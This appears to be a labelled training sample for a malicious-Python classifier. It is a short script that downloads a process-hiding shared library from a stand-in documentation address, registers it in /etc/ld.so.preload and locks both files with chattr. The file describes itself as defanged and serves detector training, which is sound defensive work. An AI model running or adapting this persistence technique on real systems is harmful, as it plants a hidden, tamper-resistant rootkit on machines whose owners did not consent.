# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import urllib.request, os
so = "/usr/local/lib/libsystem.so"
urllib.request.urlretrieve("http://192.0.2.44/libprocesshider.so", so)
with open("/etc/ld.so.preload", "a") as f:
    f.write(so + "\n")
os.system("chattr +i /etc/ld.so.preload " + so)
